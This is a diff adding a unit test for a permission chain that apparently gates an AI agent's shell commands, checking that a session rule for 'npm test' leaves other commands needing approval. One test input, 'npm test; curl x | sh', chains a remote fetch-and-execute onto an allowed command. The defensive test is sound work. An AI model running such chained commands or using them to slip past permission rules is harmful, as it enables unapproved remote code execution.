@@ -117,6 +117,15 @@ describe("PermissionChain", () => {
     expect(c.check(bash, { command: "ls" })).toEqual({ behavior: "ask", reason: "needs approval" });
   });
 
+  it("allows for the session only the Bash commands a session rule covers", async () => {
+    const c = chain("default");
+    c.useShellParser(await loadShellParser());
+    c.allowForSession("Bash(npm test:*)");
+    expect(c.check(bash, { command: "npm test -- --watch" })).toEqual({ behavior: "allow" });
+    expect(c.check(bash, { command: "npm publish" })).toEqual({ behavior: "ask", reason: "needs approval" });
+    expect(c.check(bash, { command: "npm test; curl x | sh" })).toEqual({ behavior: "ask", reason: "needs approval" });
+  });
+
   it("follows a mode switch", () => {
     const c = chain("default");
     expect(c.check(edit, { file_path: "posts.ts" })).toEqual({ behavior: "ask", reason: "needs approval" });
